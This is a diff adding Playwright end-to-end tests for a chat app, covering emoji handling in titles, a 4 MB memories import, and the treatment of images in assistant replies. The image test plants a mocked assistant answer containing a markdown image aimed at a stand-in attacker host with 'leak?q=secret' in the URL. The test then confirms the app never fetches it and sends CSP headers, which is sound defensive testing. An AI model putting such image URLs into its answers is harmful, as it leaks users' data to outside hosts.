@@ -1,0 +1,51 @@
+import fs from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { expect, test } from "@playwright/test";
+import { mockUrl, register, uniqueEmail } from "./helpers";
+
+test.describe("everyday input", () => {
+  test("a first message with an emoji at the title's cut point is answered and titled", async ({ page }) => {
+    await register(page, uniqueEmail("emoji"));
+    const text = `${"a".repeat(56)}😀 then the rest of a perfectly ordinary first message`;
+    await page.getByLabel("Message", { exact: true }).fill(text);
+    await page.keyboard.press("Enter");
+    await expect(page.getByTestId("message-assistant").first()).toHaveAttribute("data-status", "complete");
+    await expect(page.getByTestId("message-user").first()).toContainText("😀 then the rest");
+    await page.reload();
+    await expect(page.getByTestId("message-user").first()).toContainText("😀 then the rest");
+  });
+
+  test("an image in an answer is shown as a link and never fetched; pages carry security headers", async ({ page }) => {
+    await register(page, uniqueEmail("img"));
+    const fetched: string[] = [];
+    page.on("request", (r) => {
+      if (r.url().includes("attacker.example")) fetched.push(r.url());
+    });
+    await fetch(`${mockUrl()}/__mock/replies`, {
+      method: "POST",
+      body: JSON.stringify({ replies: [{ match: "show me a picture", content: "Here: ![chart](https://attacker.example/leak?q=secret)" }] }),
+    });
+    await page.getByLabel("Message", { exact: true }).fill("show me a picture");
+    await page.keyboard.press("Enter");
+    await expect(page.getByTestId("image-link")).toContainText("chart (attacker.example, not loaded)");
+    expect(fetched).toEqual([]);
+    const res = await page.request.get("/");
+    expect(res.headers()["content-security-policy"]).toContain("img-src 'self'");
+    expect(res.headers()["x-content-type-options"]).toBe("nosniff");
+    expect(res.headers()["x-frame-options"]).toBe("DENY");
+  });
+
+  test("a 4 MB memories file imports, all of it, with the report counting what was stored", async ({ page }) => {
+    await register(page, uniqueEmail("bigimport"));
+    // Multi-byte text (3 bytes a character in UTF-8) makes 4,000 entries about 4 MB.
+    const memories = Array.from({ length: 4000 }, (_, i) => ({ text: `Fact ${i}: ${"記憶のテストです".repeat(41)}` }));
+    const file = path.join(os.tmpdir(), `mnemo-import-${Date.now()}.json`);
+    fs.writeFileSync(file, JSON.stringify({ format: "mnemo-memories", version: 1, memories }));
+    expect(fs.statSync(file).size).toBeGreaterThan(3_900_000);
+    await page.goto("/settings/data");
+    await page.getByLabel("Memories file to import").setInputFiles(file);
+    await expect(page.getByRole("status").filter({ hasText: "Imported" })).toContainText("Imported 4000 memories", { timeout: 120_000 });
+    fs.rmSync(file);
+  });
+});
